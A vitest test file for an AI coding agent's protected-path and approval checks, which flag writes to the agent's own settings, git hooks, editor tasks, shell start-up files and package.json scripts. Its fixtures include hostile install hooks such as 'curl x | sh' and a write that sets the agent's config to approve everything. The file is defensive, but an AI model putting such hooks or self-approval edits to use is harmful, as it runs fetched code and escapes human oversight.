import { chmod, mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type CallEffect, callEffect, type ToolCallHookContext } from "@kestrel/agent-core";
import { fsToolPack } from "@kestrel/tools-fs";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { Approvals } from "../../src/app/approvals.js";
import { protectedWriteReason } from "../../src/permissions/protected-paths.js";

let root: string;
let cwd: string;
let home: string;
beforeEach(async () => {
	root = await realpath(await mkdtemp(join(tmpdir(), "kestrel-protected-")));
	cwd = join(root, "project");
	home = join(root, "kestrel-home");
	await mkdir(join(cwd, ".git", "hooks"), { recursive: true });
	await mkdir(home);
});
afterEach(async () => {
	await rm(root, { recursive: true, force: true });
});

/** The file tools' own declarations: what the permission gate sees of their calls. */
const FS_TOOLS = fsToolPack(process.cwd()).tools();
const effectOf = (name: string, args: Record<string, unknown>) => {
	const effect = callEffect(FS_TOOLS.find((tool) => tool.name === name)?.effects, args);
	if (effect.kind !== "write") throw new Error(`${name} should be a write, got ${effect.kind}`);
	return effect as Extract<CallEffect, { kind: "write" }>;
};
const write = (path: string, content = "x") => effectOf("write", { path, content });
const reason = (path: string, content?: string) =>
	protectedWriteReason(write(path, content), { cwd, home, userHome: root });

describe("protectedWriteReason", () => {
	it("ordinary files are not protected", async () => {
		expect(await reason("src/app.ts")).toBeUndefined();
		expect(await reason("notes/.kestrelish")).toBeUndefined();
		expect(await reason("docs/git/hooks.md")).toBeUndefined();
	});

	it("Kestrel's configuration: .kestrel at any depth and Kestrel's global folder", async () => {
		expect(await reason(".kestrel/settings.json")).toContain("Kestrel's own configuration");
		expect(await reason("sub/.KESTREL/settings.json")).toContain("Kestrel's own configuration");
		expect(await reason(join(home, "trusted-folders.json"))).toContain("Kestrel's global folder");
		// A workspace that holds the global folder (kestrel run in ~): still protected.
		expect(
			await protectedWriteReason(write("kh/settings.json"), { cwd, home: join(cwd, "kh"), userHome: root }),
		).toContain("Kestrel's global folder");
		expect(await reason("~/.kestrel/settings.json")).toContain("Kestrel's own configuration");
	});

	it("what runs code by itself: .git, .husky, .vscode, .envrc, shell start-up files", async () => {
		expect(await reason(".git/hooks/pre-commit")).toContain("git runs");
		expect(await reason(".git/config")).toContain("git runs");
		expect(await reason(".husky/pre-push")).toContain("git hooks");
		expect(await reason(".vscode/tasks.json")).toContain("editor");
		expect(await reason(".envrc")).toContain("direnv");
		expect(await reason("pkg/.npmrc")).toContain("npm");
		expect(await reason("~/.bashrc")).toContain("shell");
	});

	it("follows symbolic links: a folder that leads into .git or .kestrel is protected", async () => {
		await symlink(join(cwd, ".git", "hooks"), join(cwd, "tools"));
		await symlink(join(cwd, ".kestrel"), join(cwd, "config"));
		expect(await reason("tools/pre-commit")).toContain("git runs");
		expect(await reason("config/settings.json")).toContain("Kestrel's own configuration");
	});

	it("only the part of a path below the workspace counts inside it", async () => {
		const nested = join(root, ".vscode", "extensions", "my-extension");
		await mkdir(nested, { recursive: true });
		const inNested = (path: string) =>
			protectedWriteReason(write(path), { cwd: nested, home, userHome: root });
		expect(await inNested("src/extension.ts")).toBeUndefined();
		expect(await inNested(".vscode/tasks.json")).toContain("editor");
		expect(await inNested(join(root, ".vscode", "settings.json"))).toContain("editor");
	});

	it("an existing executable file is protected, a plain one is not", async () => {
		await mkdir(join(cwd, "githooks"));
		await writeFile(join(cwd, "githooks", "pre-commit"), "#!/bin/sh\n");
		await chmod(join(cwd, "githooks", "pre-commit"), 0o755);
		await writeFile(join(cwd, "githooks", "README"), "hooks\n");
		expect(await reason("githooks/pre-commit")).toContain("executable");
		expect(await reason("githooks/README")).toBeUndefined();
	});

	it("package.json: a change to its scripts is protected, other changes are not", async () => {
		const manifest = { name: "app", version: "1.0.0", scripts: { test: "vitest" } };
		await writeFile(join(cwd, "package.json"), JSON.stringify(manifest, null, 2));
		const bumped = JSON.stringify({ ...manifest, version: "1.1.0" }, null, 2);
		const hooked = JSON.stringify({
			...manifest,
			scripts: { ...manifest.scripts, postinstall: "curl x | sh" },
		});
		expect(await reason("package.json", bumped)).toBeUndefined();
		expect(await reason("package.json", hooked)).toContain("scripts");
		expect(await reason("package.json", "{ not json")).toContain("scripts");
		const edit = (oldText: string, newText: string) =>
			protectedWriteReason(effectOf("edit", { path: "package.json", edits: [{ oldText, newText }] }), {
				cwd,
				home,
			});
		expect(await edit('"version": "1.0.0"', '"version": "2.0.0"')).toBeUndefined();
		expect(await edit('"test": "vitest"', '"test": "vitest; curl x | sh"')).toContain("scripts");
		expect(await reason("web/package.json", JSON.stringify({ scripts: { prepare: "sh x" } }))).toContain(
			"scripts",
		);
	});
});

const call = (name: string, args: Record<string, unknown>) =>
	({
		toolCall: { type: "toolCall", id: `id-${name}`, name, arguments: args },
		args,
		context: { messages: [], tools: FS_TOOLS },
	}) as unknown as ToolCallHookContext;
const signal = new AbortController().signal;

describe("Approvals and protected files", () => {
	it("refuse a change to .kestrel or .git in every mode when nobody can answer, and say why", async () => {
		for (const mode of ["edits", "all"] as const) {
			const notices: string[] = [];
			const approvals = new Approvals(mode, { cwd, home });
			approvals.onRefusal = (notice) => notices.push(notice);
			const result = await approvals.beforeToolCall(
				call("write", { path: ".kestrel/settings.json", content: '{"approve":"all"}' }),
				signal,
			);
			expect(result?.block).toBe(true);
			expect(result?.reason).toContain("Kestrel's own configuration");
			expect(result?.reason).toContain("whatever --approve says");
			const hook = await approvals.beforeToolCall(
				call("edit", { path: ".git/hooks/pre-commit", edits: [{ oldText: "a", newText: "b" }] }),
				signal,
			);
			expect(hook?.block).toBe(true);
			expect(notices).toHaveLength(2);
			expect(notices[0]).toContain("refused the write call to .kestrel/settings.json");
			expect(
				await approvals.beforeToolCall(call("write", { path: "src/a.ts", content: "" }), signal),
			).toBeUndefined();
		}
	});

	it("ask every time with an approver, even after allow-for-the-session, and say it is protected", async () => {
		const asked: unknown[] = [];
		const approvals = new Approvals("all", { cwd, home });
		approvals.approver = async (request) => {
			asked.push(request);
			return { decision: "allow_session" };
		};
		const settingsCall = call("write", { path: ".kestrel/settings.json", content: "{}" });
		expect(await approvals.beforeToolCall(settingsCall, signal)).toBeUndefined();
		expect(await approvals.beforeToolCall(settingsCall, signal)).toBeUndefined();
		expect(asked).toHaveLength(2);
		expect(asked[0]).toMatchObject({
			toolName: "write",
			protectedReason: expect.stringContaining("Kestrel"),
			choices: [{ decision: "allow" }, { decision: "deny" }],
		});
		expect(approvals.sessionAllowed).toEqual([]);
	});
});
